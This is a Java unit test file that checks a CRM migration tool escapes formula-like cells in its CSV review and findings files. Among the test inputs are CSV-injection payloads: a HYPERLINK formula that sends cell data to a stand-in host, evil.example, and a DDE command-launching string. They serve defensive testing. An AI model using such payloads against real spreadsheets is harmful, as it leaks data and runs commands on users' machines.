package dev.crmmigrate.followup;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.BufferedWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * CSV injection: the review and findings files are opened in spreadsheets, so a name that starts like a formula is
 * written as text, and the review flow reads back exactly the name it wrote.
 */
class SpreadsheetSafeCsvTest {
    static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1 (555) 010-0000",
            "-2+3",
            "@SUM(A1:A9)",
            "\tTabbed",
            "\rReturn",
            "'=already quoted by a user",
            "'plain apostrophe",
            "Acme, Inc.",
            "");

    @Test
    void cellsThatASpreadsheetWouldRunAreWrittenAsTextAndReadBackUnchanged(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("org_candidates.csv");
        try (BufferedWriter out = Files.newBufferedWriter(file, StandardCharsets.UTF_8);
                ReviewFile.Printer w = ReviewFile.writer(out, "organization_a", "score", "decision")) {
            for (String name : HOSTILE) {
                w.printRecord(name, 0.5, "");
            }
        }
        List<CSVRecord> raw = org.apache.commons.csv.CSVFormat.RFC4180
                .parse(Files.newBufferedReader(file))
                .getRecords();
        for (CSVRecord r : raw.subList(1, raw.size())) {
            char first = r.get(0).isEmpty() ? 'x' : r.get(0).charAt(0);
            assertThat(first).as(r.get(0)).isNotIn('=', '+', '-', '@', '\t', '\r');
        }
        ReviewFile.Content back = ReviewFile.read(file, "review file");
        assertThat(back.records()).hasSize(HOSTILE.size());
        for (int i = 0; i < HOSTILE.size(); i++) {
            assertThat(ReviewFile.Content.get(back.records().get(i), "organization_a"))
                    .isEqualTo(HOSTILE.get(i));
        }
    }

    @Test
    void escapeAndUnescapeAreInverse() {
        for (String s : HOSTILE) {
            assertThat(ReviewFile.unescape(ReviewFile.escape(s))).isEqualTo(s);
        }
        assertThat(ReviewFile.escape("=1+1")).isEqualTo("'=1+1");
        assertThat(ReviewFile.escape("Acme")).isEqualTo("Acme");
    }

    @Test
    void findingsFilesAreSpreadsheetSafeToo(@TempDir Path dir) throws Exception {
        Path csv = dir.resolve("campaign_foreign_keys_findings.csv");
        try (Findings f = new Findings(csv)) {
            f.add("unmigrated", "=cmd|' /C calc'!A0");
        }
        assertThat(Files.readString(csv)).contains("'=cmd|").doesNotContain(",=cmd");
    }
}
